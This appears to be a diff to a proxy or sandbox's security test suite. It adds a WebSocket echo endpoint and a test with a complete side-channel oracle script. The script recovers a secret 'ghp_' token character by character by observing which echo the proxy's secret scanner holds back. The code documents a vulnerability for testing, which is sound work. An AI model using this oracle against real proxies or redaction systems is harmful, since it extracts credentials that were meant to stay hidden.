@@ -24,7 +24,7 @@ CURL = "curl -sS -m 10 "
 
 # Runs in the test namespace: python3 ECHO CERT KEY LOG
 ECHO = r'''
-import http.server, socketserver, ssl, sys, threading, time, urllib.parse
+import base64, hashlib, http.server, socketserver, ssl, struct, sys, threading, time, urllib.parse
 
 LOG = sys.argv[3]
 STORE = {}
@@ -44,6 +44,30 @@ class H(http.server.BaseHTTPRequestHandler):
             STORE[path[7:]] = query
         elif path.startswith("/stored/"):
             body = ("value=%s\n" % STORE.get(path[8:], "")).encode()
+        elif path == "/ws-echo":
+            # a WebSocket echo service: every text frame back as it came
+            key = self.headers["Sec-WebSocket-Key"]
+            accept = base64.b64encode(hashlib.sha1(
+                (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
+            self.send_response(101)
+            self.send_header("Upgrade", "websocket")
+            self.send_header("Connection", "Upgrade")
+            self.send_header("Sec-WebSocket-Accept", accept)
+            self.end_headers()
+            self.wfile.flush()
+            while True:
+                hdr = self.rfile.read(2)
+                if len(hdr) < 2 or hdr[0] & 0x0F == 8:
+                    break
+                n = hdr[1] & 0x7F
+                if n == 126:
+                    n = struct.unpack("!H", self.rfile.read(2))[0]
+                mask = self.rfile.read(4)
+                data = bytes(b ^ mask[i % 4] for i, b in enumerate(self.rfile.read(n)))
+                self.wfile.write(bytes([0x81, len(data)]) + data)
+                self.wfile.flush()
+            self.close_connection = True
+            return
         elif path.startswith("/wait/"):
             # a response that lasts (a log tail, a feed): its first chunk at
             # once, then what /store/KEY stores, when it does
@@ -331,3 +355,126 @@ print("fresh", read_all(c).decode("latin-1").replace("\r\n", " "))
     assert "fresh" in r.stdout and "value=cmd" not in r.stdout.split("fresh", 1)[1], r.stdout
     # the hole: the long response, begun before the refresh, hands it over
     assert "cmd-secret-run" not in r.stdout, r.stdout
+
+
+# The command's side of the oracle: WebSocket echoes through the forward
+# proxy to good.test:9080 (allowed, bound to no credential).  For each next
+# character, one guess per connection, all at once; a guess whose echo is
+# held back whole is a prefix of the secret.
+ORACLE = r'''
+import base64, os, socket, string, sys, time
+P = os.environ["HTTP_PROXY"].split("//")[1].rsplit(":", 1)
+ALPHABET = string.ascii_letters + string.digits + "_-"
+
+def ws():
+    s = socket.create_connection((P[0], int(P[1])))
+    key = base64.b64encode(os.urandom(16)).decode()
+    s.sendall(("GET http://good.test:9080/ws-echo HTTP/1.1\r\nHost: good.test:9080\r\n"
+               "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
+               "Sec-WebSocket-Version: 13\r\n\r\n" % key).encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(1)
+    assert head.startswith(b"HTTP/1.1 101"), head
+    s.setblocking(False)
+    return s
+
+def frame(data):
+    mask = os.urandom(4)
+    return bytes([0x81, 0x80 | len(data)]) + mask + bytes(
+        b ^ mask[i % 4] for i, b in enumerate(data))
+
+def drain(s):
+    out = b""
+    while True:
+        try:
+            c = s.recv(65536)
+        except BlockingIOError:
+            return out
+        except OSError:
+            return None
+        if not c:
+            return None
+        out += c
+
+conns = [ws() for _ in ALPHABET]
+# control: an echo that holds nothing comes back whole, at once
+conns[0].sendall(frame(b"#hello"))
+time.sleep(0.3)
+print("control", drain(conns[0]))
+
+def settle(conns, sent, got, enough):
+    """Reads until every connection has been sent back ENOUGH(i) bytes (in
+    all, since it began), or 5 s; SENT[i] is what it was sent back in all,
+    GOT[i] what came (None once it was cut)."""
+    end = time.monotonic() + 5
+    while time.monotonic() < end:
+        short = 0
+        for i, s in enumerate(conns):
+            if got[i] is not None and got[i] < enough(i):
+                d = drain(s)
+                got[i] = None if d is None else got[i] + len(d)
+            short += got[i] is not None and got[i] < enough(i)
+        if not short:
+            return
+        time.sleep(0.005)
+
+known = sys.argv[1]  # the token format's public prefix (ghp_)
+sent = [0] * len(conns)
+got = [0] * len(conns)
+for _ in range(60):
+    guess = [(known + ch).encode() for ch in ALPHABET]
+    base = list(got)
+    for i, (s, g) in enumerate(zip(conns, guess)):
+        s.sendall(frame(g))
+        sent[i] += 2 + len(g)
+    # any byte of the payload: not held whole (the frame's two header
+    # bytes may come either way); the one holding its payload whole stays
+    # short: waited for 0.1 s once every other has come (3 s at most)
+    t0 = time.monotonic()
+    while time.monotonic() - t0 < 3:
+        short = [i for i in range(len(conns)) if got[i] is not None and got[i] < base[i] + 3]
+        if len(short) <= 1 and time.monotonic() - t0 > 0.1:
+            break
+        for i in short:
+            d = drain(conns[i])
+            got[i] = None if d is None else got[i] + len(d)
+        time.sleep(0.005)
+    held = [i for i in range(len(conns)) if got[i] is None or got[i] <= base[i] + 2]
+    if len(held) != 1:
+        break
+    known += ALPHABET[held[0]]
+    for i, s in enumerate(conns):
+        try:
+            s.sendall(frame(b"#"))  # breaks every partial match: all flows
+            sent[i] += 3
+        except OSError:
+            pass
+    settle(conns, sent, got, lambda i: sent[i])
+    for i in range(len(conns)):
+        if got[i] is None:  # the one whose guess completed the secret was cut
+            conns[i], sent[i], got[i] = ws(), 0, 0
+print("recovered", known, flush=True)
+'''
+
+
+def test_a_held_back_partial_match_tells_the_secret_one_character_at_a_time(two):
+    """The scan holds back the bytes of a partial match until the next byte
+    says whether it goes on, with no deadline: a response's bytes that are
+    a prefix of the secret wait, any other bytes go at once.  Through any
+    service that echoes what the command sends, at a time of its choosing
+    (a WebSocket echo, here on a host no credential is bound to), the
+    command guesses the next character on many connections at once and
+    sees which echo waits: the whole secret, a character per round trip.
+    Control: an echo that matches nothing comes back whole at once, and
+    the secret itself is never sent anywhere (no credential host is
+    asked)."""
+    p = policy(two)
+    two.write("work/oracle.py", ORACLE)
+    r = two.run(["/usr/bin/python3", "oracle.py", "ghp_"], policy=p, env={"RF_SECRET": SECRET},
+                timeout=120)
+    assert "control b'\\x81\\x06#hello'" in r.stdout, r.stdout + r.stderr
+    assert "recovered ghp_" in r.stdout, r.stdout + r.stderr
+    assert not two.events("cred.inject"), two.events("cred.inject")
+    # the hole: the secret, recovered whole without it ever being sent
+    assert SECRET not in r.stdout, r.stdout
